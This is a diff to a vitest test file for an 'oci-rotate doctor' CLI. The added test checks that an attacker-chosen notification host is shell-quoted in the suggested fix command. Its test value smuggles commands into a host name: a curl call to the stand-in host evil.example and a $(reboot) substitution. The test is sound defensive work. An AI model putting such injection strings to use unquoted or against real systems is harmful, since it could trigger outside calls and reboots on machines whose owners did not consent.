@@ -1,4 +1,5 @@
 import { describe, expect, test } from "vitest";
+import { word } from "../../../../src/cli/command-line.ts";
 import { type CliWorld, expectOnlyReads, useCli } from "../../../support/cli.ts";
 
 const cli = useCli();
@@ -69,6 +70,14 @@ describe("oci-rotate doctor, of notifications", () => {
     ]);
     expect(mendOf("OROT_NOTIFY_HOSTS is not set")).toEqual([
       "fn config function rotation oci-rotate OROT_NOTIFY_HOSTS hooks.example.org",
+    ]);
+  });
+
+  test("a host that a shell would run is quoted in the line to paste, since anyone who may invoke the function chooses it", async () => {
+    const host = "x;{curl,evil.example};$(reboot)&'.example";
+    const { mendOf } = await diagnose(await cli(), [{ endpoint: `https://${host}/a` }], {});
+    expect(mendOf("OROT_NOTIFY_HOSTS is not set")).toEqual([
+      `fn config function rotation oci-rotate OROT_NOTIFY_HOSTS ${word(host)}`,
     ]);
   });
 
